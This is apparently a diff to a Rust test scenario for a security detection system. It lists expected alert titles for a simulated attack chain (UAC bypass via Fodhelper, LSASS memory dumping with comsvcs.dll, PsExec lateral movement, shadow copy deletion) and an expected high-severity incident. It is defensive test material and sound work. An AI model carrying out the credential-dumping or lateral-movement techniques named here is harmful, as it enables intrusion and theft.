+        "Potential Recon Activity Via Nltest.EXE",
+        "Shell Open Registry Keys Manipulation",
+        "Bypass UAC via Fodhelper.exe",
+        "Process Memory Dump Via Comsvcs.DLL",
+        "Lsass Memory Dump via Comsvcs DLL",
+        "Potential Credential Dumping Activity Via LSASS",
+        "Potentially Suspicious Rundll32 Activity",
+        "Windows Share Mount Via Net.EXE",
+        "Windows Admin Share Mount Via Net.EXE",
+        "Password Provided In Command Line Of Net.EXE",
+        "System Network Connections Discovery Via Net.EXE",
+        "Suspicious Remote Logon with Explicit Credentials",
+        "Psexec Execution",
+        "Potential PsExec Remote Execution",
+        "Potential Execution of Sysinternals Tools",
+        "PsExec Service File Creation",
+        "PsExec Service Execution",
+        "First Time Seen Remote Named Pipe",
+        "Shadow Copies Deletion Using Operating Systems Utilities",
+        "Boot Configuration Tampering Via Bcdedit.EXE",
+    ]);
     let victim_key = format!("{}\\{}", NETBIOS.to_lowercase(), victim.sam);
     let admin_key = format!("{}\\{}", NETBIOS.to_lowercase(), admin.sam);
     sc.expected_incidents = vec![incident(
         &[&laptop.name, &fs.name],
         &[&victim_key, &admin_key],
-        &["Execution", "PrivilegeEscalation", "CredentialAccess", "LateralMovement", "Impact"],
+        &[
+            "Execution",
+            "PrivilegeEscalation",
+            "CredentialAccess",
+            "LateralMovement",
+            "Impact",
+        ],
         "High",
         "at_least",
     )];
